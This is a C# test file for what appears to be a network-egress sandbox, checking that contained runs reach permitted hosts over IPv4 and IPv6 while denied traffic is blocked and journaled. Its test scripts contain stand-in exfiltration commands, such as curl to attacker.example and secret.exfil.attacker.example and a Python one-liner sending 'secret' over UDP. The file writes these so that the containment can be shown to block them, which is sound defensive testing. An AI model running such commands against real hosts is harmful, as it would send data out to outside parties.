using Exeat.Lab.Report;
using Exeat.Lab.Tests.Labs;
using Exeat.Lab.Topology;
using Exeat.Lab.World;

namespace Exeat.Lab.Tests.Runs;

/// <summary><c>exeat run</c> by each way out: what the class permits arrives in both families, nothing else leaves, the status passes, the summary and the journal say why.</summary>
public sealed class RunWayTests(RunLab lab) : IClassFixture<RunLab>
{
    private const string Denied4 = "203.0.113.66", Denied6 = "2001:db8:f::66", Permitted4 = "203.0.113.14", Permitted6 = "2001:db8:f::14";

    // By name, by literal address of both families, as data in a question, over UDP; then what is permitted.
    private const string Script = """
        curl -sS -m 10 https://attacker.example/
        curl -sS -m 10 http://203.0.113.66/
        curl -sS -m 10 'http://[2001:db8:f::66]/'
        curl -sS -m 10 https://secret.exfil.attacker.example/
        echo secret | timeout 2 python3 -c 'import socket; [socket.socket(f, socket.SOCK_DGRAM).sendto(b"secret", (a, 443)) for f, a in ((socket.AF_INET, "203.0.113.66"), (socket.AF_INET6, "2001:db8:f::66"))]'
        """;

    [Theory]
    [InlineData("veth")]
    [InlineData("slirp4netns")]
    [InlineData("pasta")]
    public async Task What_the_class_permits_arrives_in_both_families_and_nothing_else_leaves(string way)
    {
        Assert.SkipUnless(TestSpaces.Fresh, TestSpaces.WhyNot);
        Assert.SkipWhen(RunLab.Obstacle(way) is not null, RunLab.Obstacle(way) ?? "");
        WorldSnapshot before = await lab.ArrivedAsync();
        Finished run = await lab.ContainAsync(["--class", "coding", "--network", way], Script + "\ncurl -4 -sS -m 10 https://github.com/ && curl -6 -sS -m 10 https://github.com/ && exit 7");
        Assert.True(run.Status == 7, $"status {run.Status}\n{run.Output}\n{run.Errors}");
        Assert.Equal(2, run.Output.Split("{\"host\":\"github.com\"}").Length - 1);
        WorldSnapshot after = await lab.ArrivedAsync();
        Assert.True(Packets(after, Permitted4) > Packets(before, Permitted4), "nothing came over IPv4");
        Assert.True(Packets(after, Permitted6) > Packets(before, Permitted6), "nothing came over IPv6");
        Assert.Equal(Packets(before, Denied4), Packets(after, Denied4));
        Assert.Equal(Packets(before, Denied6), Packets(after, Denied6));
        Assert.Equal(before.Asked("attacker.example"), after.Asked("attacker.example"));

        Assert.Contains("attacker.example (dns)", run.Errors, StringComparison.Ordinal);
        Assert.Contains("203.0.113.66 (tcp/80)", run.Errors, StringComparison.Ordinal);
        Assert.Contains("2001:db8:f::66 (tcp/80)", run.Errors, StringComparison.Ordinal);
        Assert.Contains("deny by default-deny", run.Errors, StringComparison.Ordinal);
        IReadOnlyList<SeenRecord> records = JournalLines.Read(lab.Journals()[^1], DateTimeOffset.MinValue);
        Assert.Contains(records, record => record.Rule == "allow-packages" && record.Verdict == "permit");
        Assert.Contains(records, record => record.Rule == "default-deny" && record.Verdict == "deny" && record.Enforced);

        Finished open = await lab.OpenAsync(Script);
        WorldSnapshot control = await lab.ArrivedAsync();
        Assert.True(Packets(control, Denied4) > Packets(after, Denied4) && Packets(control, Denied6) > Packets(after, Denied6) && control.Asked("attacker.example") > after.Asked("attacker.example"),
            $"the control did not arrive: {open.Errors}");
    }

    [Fact]
    public async Task Monitor_lets_pass_and_says_what_enforce_would_have_denied()
    {
        Assert.SkipUnless(TestSpaces.Fresh, TestSpaces.WhyNot);
        WorldSnapshot before = await lab.ArrivedAsync();
        Finished run = await lab.ContainAsync(["--class", "coding", "--network", "veth", "--mode", "monitor"], "curl -4 -sS -m 10 https://api.openai.com/ && curl -6 -sS -m 10 https://api.openai.com/");
        Assert.True(run.Succeeded, run.Errors);
        WorldSnapshot after = await lab.ArrivedAsync();
        Assert.True(Packets(after, "203.0.113.20") > Packets(before, "203.0.113.20") && Packets(after, "2001:db8:f::20") > Packets(before, "2001:db8:f::20"));
        Assert.Contains("would have been denied", run.Errors, StringComparison.Ordinal);
        Assert.Contains("would deny by shadow-model-deny", run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Git_over_SSH_goes_by_the_name_that_was_given_and_by_no_other()
    {
        Assert.SkipUnless(TestSpaces.Fresh, TestSpaces.WhyNot);
        const string Connect = """
            for to in github.com pypi.org; do for family in AF_INET AF_INET6; do
              python3 -c "import socket; a = socket.getaddrinfo('$to', 22, socket.$family, socket.SOCK_STREAM)[0][4]; s = socket.create_connection(a[:2], 5); s.settimeout(5); s.sendall(b'SSH-2.0-OpenSSH_9.2\r\n'); s.recv(1) and print('$to $family connected')" 2>/dev/null
            done; done; true
            """;
        WorldSnapshot before = await lab.ArrivedAsync();
        Finished run = await lab.ContainAsync(["--class", "coding", "--network", "veth", "--ssh", "github.com"], Connect);
        Assert.Equal(["github.com AF_INET connected", "github.com AF_INET6 connected"], run.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        WorldSnapshot after = await lab.ArrivedAsync();
        foreach (string denied in (string[])["203.0.113.15", "2001:db8:f::15"]) Assert.Equal(Packets(before, denied), Packets(after, denied));
        SeenRecord[] permits = [.. JournalLines.Read(lab.Journals()[^1], DateTimeOffset.MinValue).Where(record => record.Rule == "run-ssh" && record.Port == 22)];
        Assert.Equal(2, permits.Length);
        Assert.Equal(4, (await lab.OpenAsync(Connect)).Output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
    }

    [Fact]
    public async Task Git_over_HTTPS_clones_commits_and_tells_why_not()
    {
        Assert.SkipUnless(TestSpaces.Fresh, TestSpaces.WhyNot);
        const string Script = """
            export GIT_SSL_CAINFO="$SSL_CERT_FILE" GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example.org GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example.org
            git clone -q https://github.com/git/lab.git "$HOME/cloned" && cat "$HOME/cloned/README" && git -C "$HOME/cloned" commit -q --allow-empty -m more && git -C "$HOME/cloned" log --oneline | wc -l
            git clone -q https://attacker.example/git/lab.git "$HOME/not" || echo refused
            """;
        WorldSnapshot before = await lab.ArrivedAsync();
        Finished run = await lab.ContainAsync(["--class", "coding", "--network", "veth", "--home", "new"], Script);
        Assert.True(run.Succeeded, run.Errors);
        Assert.True(run.Output == "fetched through the gateway\n2\nrefused\n", run.Output + run.Errors);
        WorldSnapshot after = await lab.ArrivedAsync();
        Assert.True(Packets(after, Permitted4) + Packets(after, Permitted6) > Packets(before, Permitted4) + Packets(before, Permitted6), "the clone did not come from the world");
        Assert.Equal(before.Asked("attacker.example"), after.Asked("attacker.example"));
        Assert.Contains("attacker.example (dns)", run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_resolver_of_the_moment_is_asked()
    {
        Assert.SkipUnless(TestSpaces.Fresh, TestSpaces.WhyNot);
        string file = Path.Combine(lab.State.Folder, "resolv.conf");
        // Nobody answers there, as after a change of network.
        await File.WriteAllTextAsync(file, "nameserver 198.51.100.99\n");
        const string Script = "touch resolver.started; n=0; until curl -4 -sS -m 5 https://github.com/; do n=$((n+1)); [ $n -lt 30 ] || exit 1; sleep 0.5; done";
        Task<Finished> running = Subprocess.RunAsync(["unshare", "--mount", "sh", "-c", "mount --bind \"$0\" \"$(readlink -f /etc/resolv.conf)\" && exec \"$@\"", file, .. lab.Command(["--class", "coding", "--network", "veth"], "sh", "-c", Script)], TimeSpan.FromSeconds(90));
        while (!File.Exists(Path.Combine(lab.Work, "resolver.started")) && !running.IsCompleted) await Task.Delay(TimeSpan.FromMilliseconds(50), TimeProvider.System);
        await Task.Delay(TimeSpan.FromSeconds(2), TimeProvider.System);
        Assert.False(running.IsCompleted, "the dead resolver answered");
        await File.WriteAllTextAsync(file, $"nameserver {WorldMap.Upstream.Address4}\n");
        Finished run = await running;
        Assert.True(run.Succeeded, run.Errors);
        Assert.Contains("github.com", run.Output, StringComparison.Ordinal);
    }

    private static long Packets(WorldSnapshot world, string destination) => world.From("", destination).Packets;
}
